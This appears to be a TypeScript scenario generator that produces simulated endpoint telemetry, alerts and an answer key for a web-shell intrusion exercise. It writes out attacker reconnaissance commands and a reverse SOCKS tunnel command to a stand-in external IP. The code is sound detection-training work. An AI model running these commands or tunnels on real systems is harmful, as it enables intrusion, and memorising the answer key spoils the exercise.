import { raise } from '../alerts';
import { alarms } from './alarms.data';
import { connect, touchFile } from '../events';
import { day, minute, second } from '../window';
import type { ProcessRef } from '../journal';
import type { Actor, Stage, Story } from './stage';

const attacker = '203.0.113.201';
const commands = [
  ['whoami', 'whoami'],
  ['ipconfig', 'ipconfig /all'],
  ['net', 'net user /domain'],
  ['tasklist', 'tasklist /v'],
  ['systeminfo', 'systeminfo'],
] as const;

const openTunnel = (stage: Stage, server: Actor, worker: ProcessRef): void => {
  const later = worker.at + day;
  const tool = stage.world.files.add('C:\\ProgramData\\t.exe', {
    content: 'tunnel program',
    size: 4_210_688,
    threat: 'HackTool:Win64/Sample',
  });
  touchFile(server.act(worker, later), tool, { ActionType: 'FileCreated' });
  const tunnel = server.journal.start({
    file: tool,
    at: later + 20 * second,
    parent: worker,
    command: `C:\\ProgramData\\t.exe client ${attacker}:8443 R:socks`,
  });
  connect(server.act(tunnel, later + 22 * second), { ip: attacker, port: 8443 });
};

/** A page that somebody uploaded to a web server gives them a shell there. */
export const webshell: Story = (stage) => {
  const { world, random, time } = stage;
  const server = stage.server('web');
  const at = stage.when(10, 2, server.device);
  const boot = server.boot(at);
  const account = world.organization.services.find(({ name }) => name === 'svc-web') ?? world.organization.networkService;
  const worker = server.run('w3wp', {
    at: at - 90 * minute,
    parent: boot.services,
    command: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "Portal" -v "v4.0"',
    account,
    integrity: 'High',
  });
  const requests = random.int(18, 30);
  for (let index = 0; index < requests; index += 1)
    connect(server.act(worker, at - 5 * minute + index * 40 * second), {
      ip: attacker,
      port: random.int(49_200, 65_000),
      localPort: 443,
      action: 'InboundConnectionAccepted',
    });
  const facts = { content: 'web shell', size: 1734, threat: 'Backdoor:ASP/Sample' };
  const page = world.files.add('C:\\inetpub\\wwwroot\\portal\\uploads\\img_resize.aspx', facts);
  touchFile(server.act(worker, at), page, { ActionType: 'FileCreated' });
  commands.forEach(([key, command], index) => {
    const when = at + (2 + index * 2) * minute;
    const shell = server.run('cmd', { at: when, parent: worker, command: `"cmd.exe" /c ${command}` });
    server.run(key, { at: when + second, parent: shell, command });
  });
  openTunnel(stage, server, worker);
  raise(world, {
    ...alarms.webshell,
    at: at + 12 * minute,
    evidence: [
      { device: server.device },
      { device: server.device, process: worker },
      { device: server.device, file: page },
      { ip: attacker },
    ],
  });
  return {
    story: `An .aspx page uploaded to ${server.device.short} ran commands as the web server, and a day later a tunnel to ${attacker}.`,
    answers: {
      'webshell-page': [[time(at), server.device.name, page.path]],
      'webshell-commands': commands.map(([, command]) => [account.name, command]),
    },
  };
};
